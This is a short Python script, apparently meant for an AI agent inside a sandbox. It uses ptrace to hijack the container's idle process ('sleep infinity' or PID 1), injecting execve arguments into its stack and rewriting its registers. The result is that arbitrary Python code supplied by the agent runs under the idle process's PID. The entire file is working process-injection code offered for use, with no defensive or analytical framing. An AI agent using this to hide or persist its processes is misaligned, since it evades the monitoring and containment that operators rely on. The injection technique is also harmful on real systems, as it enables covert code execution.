"""Runs inside a sandbox as the agent (x86_64): ptrace the container's idle process (the image's
`sleep infinity` under docker-init, or else PID 1) and make it exec `python3 -c <argv[1]>`, so
that a process of ours runs under the idle PID."""

import ctypes
import os
import struct
import sys

ATTACH, DETACH, GETREGS, SETREGS, POKEDATA = 16, 17, 12, 13, 5
EXECVE = 59
REGISTERS = [
    *("r15", "r14", "r13", "r12", "rbp", "rbx", "r11", "r10", "r9", "r8", "rax", "rcx"),
    *("rdx", "rsi", "rdi", "orig_rax", "rip", "cs", "eflags", "rsp", "ss", "fs_base"),
    *("gs_base", "ds", "es", "fs", "gs"),
]

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in REGISTERS]


def idle_pid() -> int:
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
                    if cmdline.read() == b"sleep\0infinity\0":
                        return int(entry)
            except OSError:
                pass
    return 1


def main() -> None:
    pid = idle_pid()
    if libc.ptrace(ATTACH, pid, None, None) != 0:
        sys.exit(f"attach failed errno={ctypes.get_errno()}")
    os.waitpid(pid, 0)
    regs = Regs()
    libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
    strings = [b"/usr/bin/python3\0", b"-c\0", sys.argv[1].encode() + b"\0"]
    base = (regs.rsp - 65536) & ~0xF
    blob, addresses = b"", []
    for string in strings:
        addresses.append(base + len(blob))
        blob += string
    blob += b"\0" * (-len(blob) % 8)
    argv_at = base + len(blob)
    blob += struct.pack("<4Q", *addresses, 0)
    for i in range(0, len(blob), 8):
        word = struct.unpack("<Q", blob[i : i + 8])[0]
        if libc.ptrace(POKEDATA, pid, ctypes.c_void_p(base + i), ctypes.c_void_p(word)) != 0:
            sys.exit(f"poke failed errno={ctypes.get_errno()}")
    regs.rax, regs.orig_rax = EXECVE, 0xFFFFFFFFFFFFFFFF
    regs.rdi, regs.rsi, regs.rdx = addresses[0], argv_at, 0
    regs.rip -= 2  # back onto the `syscall` instruction the sleep was stopped in
    libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
    libc.ptrace(DETACH, pid, None, None)
    print(f"hijacked idle pid {pid}")


main()
